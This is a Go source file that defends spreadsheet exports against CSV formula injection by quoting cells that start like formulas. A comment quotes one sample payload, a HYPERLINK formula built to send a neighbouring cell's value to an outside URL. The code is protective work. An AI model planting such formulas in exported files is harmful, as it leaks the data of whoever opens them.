package rostercsv

import (
	"encoding/csv"
	"io"
	"strings"
)

// Spreadsheet programs run a cell that begins with =, +, -, @, a tab or a
// carriage return as a formula: a member's name or an SMS answer's reason
// such as =HYPERLINK("http://…?"&A2,"x") would run in the clerk's
// spreadsheet when the exported file is opened (CSV injection). Every CSV
// muster writes goes through Writer, which puts a quote (') before such a
// cell, as spreadsheets themselves do to keep a cell text; the roster
// readers take that quote off again, so that an export imports back
// unchanged. A cell of figures only, such as an E.164 phone or a negative
// number, stays as it is: it has no function or reference to run.

// formulaStarts are the first characters that make a cell a formula.
const formulaStarts = "=+-@\t\r"

// figureChars are the characters of a cell that is a number, or a phone,
// whatever its first character: no function name, no cell reference.
const figureChars = "0123456789 .,()+-"

// isFormula reports whether a spreadsheet would take s as a formula that
// can do more than arithmetic on figures.
func isFormula(s string) bool {
	if s == "" || !strings.ContainsRune(formulaStarts, rune(s[0])) {
		return false
	}
	if s[0] == '+' || s[0] == '-' {
		return strings.Trim(s, figureChars) != ""
	}
	return true
}

// needsQuote reports whether s, stripped of its leading quotes, is a
// formula: such a cell gets one quote more when written, and loses one
// when read, so that a value that really begins with a quote survives too.
func needsQuote(s string) bool {
	return isFormula(strings.TrimLeft(s, "'"))
}

// defuseFormula returns the cell to write for the value s.
func defuseFormula(s string) string {
	if needsQuote(s) {
		return "'" + s
	}
	return s
}

// restoreFormula returns the value of a cell that defuseFormula wrote.
func restoreFormula(s string) string {
	if strings.HasPrefix(s, "'") && needsQuote(s) {
		return s[1:]
	}
	return s
}

// Writer is a csv.Writer that defuses formula cells (see defuseFormula).
// Every CSV file muster writes is written through one.
type Writer struct {
	cw  *csv.Writer
	rec []string
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer {
	return &Writer{cw: csv.NewWriter(w)}
}

// Write writes one record, its formula cells defused. rec is not changed.
func (w *Writer) Write(rec []string) error {
	w.rec = w.rec[:0]
	for _, s := range rec {
		w.rec = append(w.rec, defuseFormula(s))
	}
	return w.cw.Write(w.rec)
}

// WriteAll writes the records and flushes.
func (w *Writer) WriteAll(recs [][]string) error {
	for _, rec := range recs {
		if err := w.Write(rec); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() { w.cw.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.cw.Error() }
